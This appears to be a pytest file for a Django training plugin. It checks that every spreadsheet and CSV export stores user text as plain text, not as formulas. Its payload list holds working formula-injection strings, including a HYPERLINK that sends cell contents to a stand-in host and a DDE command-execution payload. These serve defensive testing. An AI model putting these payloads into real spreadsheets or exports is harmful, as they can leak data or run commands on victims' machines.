"""Every export the product writes (each area registers its exports with ``core.registry``) holds
user text only as text: formula payloads, a tab, a line break and a value longer than a cell
holds are written, the files read back, and no cell is a formula."""
from __future__ import annotations

import csv
import io
import itertools
import zipfile

import pytest
from lxml import etree
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from party_training.edx_plugin.core.files import FORMULA_STARTS, MAX_CELL_CHARS
from party_training.edx_plugin.core.models import MemberProfile, Organization
from party_training.edx_plugin.core.organizations import save_organization
from party_training.edx_plugin.core.registry import registry
from tests.conftest import ensure_member_categories

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "党员\n=1+1",
    "党委\x01\x1b[31m",
    "长" * (MAX_CELL_CHARS + 1),
]
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
AREAS_WITH_EXPORTS = {"party_class", "knowledge_contest", "writing_assignment", "menu_selection", "case_discussion"}


@pytest.fixture
def member(django_user_model):
    """A user whose user name, full name, organisation and position hold the payload."""
    ensure_member_categories()
    counter = itertools.count(1)

    def make(text: str):
        def _member():
            n = next(counter)
            user = django_user_model.objects.create_user(f"{text[:140]}{n}", password="pw")
            org = save_organization(Organization(code=f"EXPORT-{n}", name=text[:200], kind="branch"))
            MemberProfile.objects.create(user=user, organization=org, full_name=text[:100], position=text[:100])
            return user
        return _member
    return make


def _cells(name: str, content: bytes) -> list[tuple[str, object, str]]:
    """(where, value, kind) of every non-empty cell. XLSX is read from its XML, as a spreadsheet
    program reads it (openpyxl's reader would cut long strings): kind is the cell's type, "f" when
    it holds a formula; CSV cells have the kind "csv"."""
    if name.endswith(".xlsx"):
        archive = zipfile.ZipFile(io.BytesIO(content))
        shared = []
        if "xl/sharedStrings.xml" in archive.namelist():
            shared = ["".join(si.itertext()) for si in etree.fromstring(archive.read("xl/sharedStrings.xml"))]
        cells = []
        for sheet in (n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")):
            for cell in etree.fromstring(archive.read(sheet)).iter(f"{{{MAIN}}}c"):
                kind = "f" if cell.find(f"{{{MAIN}}}f") is not None else cell.get("t", "n")
                if kind == "inlineStr":
                    inline = cell.find(f"{{{MAIN}}}is")
                    kind, value = "s", None if inline is None else "".join(inline.itertext())
                elif kind == "s":
                    value = shared[int(cell.findtext(f"{{{MAIN}}}v"))]
                else:
                    value = cell.findtext(f"{{{MAIN}}}v")
                if value is not None:
                    cells.append((f"{sheet}!{cell.get('r')}", value, kind))
        return cells
    text = content.decode("utf-8-sig")
    return [(f"row {r} col {c}", value, "csv") for r, row in enumerate(csv.reader(io.StringIO(text)), start=1)
            for c, value in enumerate(row, start=1) if value]


def test_each_area_with_exports_registers_them():
    keys = [e.key for e in registry.exports()]
    assert {area for area in AREAS_WITH_EXPORTS if any(key.startswith(area) for key in keys)} == AREAS_WITH_EXPORTS


@pytest.mark.django_db
@pytest.mark.parametrize("export", registry.exports(), ids=lambda e: e.key)
@pytest.mark.parametrize("payload", PAYLOADS, ids=["hyperlink", "plus", "minus", "at", "tab", "newline", "control", "long"])
def test_every_export_writes_user_text_only_as_text(export, payload, member):
    files = export.sample(payload, member(payload))
    assert files
    shown = ILLEGAL_CHARACTERS_RE.sub("", payload)[:30]  # XML holds no control characters
    for name, content in files.items():
        cells = _cells(name, content)
        found = False
        for where, value, kind in cells:
            assert kind != "f", f"{export.key} {name} {where}: a formula"
            if kind == "csv":
                # A CSV cell starting like a formula is written behind an apostrophe.
                assert not value.startswith(FORMULA_STARTS), f"{export.key} {name} {where}: {value[:40]!r}"
                value = value[1:] if value.startswith("'") else value
            elif kind == "s":
                assert len(value) <= MAX_CELL_CHARS, f"{export.key} {name} {where}: longer than a cell"
            else:
                assert kind in ("n", "b", "d"), f"{export.key} {name} {where}: {kind}"
                continue  # a number, a boolean or a date: not user text
            found = found or shown in value
        assert found, f"{export.key} {name}: the payload is in no text cell"
